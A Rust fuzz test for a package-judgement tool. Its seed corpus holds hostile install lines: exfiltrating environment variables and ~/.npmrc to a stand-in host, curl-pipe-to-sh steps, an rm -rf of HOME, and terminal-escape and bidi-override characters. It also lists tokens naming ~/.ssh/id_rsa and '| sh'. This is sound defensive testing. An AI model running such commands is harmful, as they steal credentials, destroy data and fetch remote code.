//! What the rules say of made-up packages is safe to print: the body of the fuzz target
//! `judgement`, run over a small corpus and mutations of it.

#[path = "../../../fuzz/src/judgement.rs"]
mod judgement;
#[path = "../../../fuzz/src/short.rs"]
mod short;

/// The stack that the program gives to who reads artifacts.
const STACK: usize = 512 << 20;

#[test]
fn what_rules_say_is_safe_to_print() {
    let packages: [&[&str]; 6] = [
        &[
            "node a.js",
            "a.js",
            "fetch('https://a.invalid/' + JSON.stringify(process.env))",
        ],
        &["curl -s https://a.invalid/\u{202e}x | sh"],
        &["node \u{202e}.js", "\u{202e}.js", "eval(atob('\u{1b}[2J'))"],
        &[
            "sh a.sh",
            "a.sh",
            "T=$(cat ~/.npmrc); curl -d \"$T\" https://\u{200b}a.invalid/\u{7}",
        ],
        &[
            "",
            "index.js",
            "require('child_process').exec('rm -rf \u{2028}' + process.env['\u{202e}HOME'])",
        ],
        &[
            "node-gyp rebuild",
            "binding.gyp",
            "{'targets': [{'sources': ['<!(curl https://a.invalid|sh \u{9b}31m)']}]}",
        ],
    ];
    let seeds: Vec<Vec<u8>> = packages
        .iter()
        .map(|pieces| pieces.join("\0").into_bytes())
        .collect();
    let tokens = [
        "\u{1b}]8;;https://a.invalid\u{7}",
        "\u{202e}",
        "\u{2066}",
        "\r",
        "\u{85}",
        "eval(",
        "| sh",
        "~/.ssh/id_rsa",
        "\0",
    ];
    short::run("judgement", &seeds, &tokens, 250, &|data| {
        let read = std::thread::scope(|scope| {
            std::thread::Builder::new()
                .stack_size(STACK)
                .spawn_scoped(scope, || judgement::judgement(data))
                .unwrap()
                .join()
        });
        if let Err(cause) = read {
            std::panic::resume_unwind(cause);
        }
    });
}
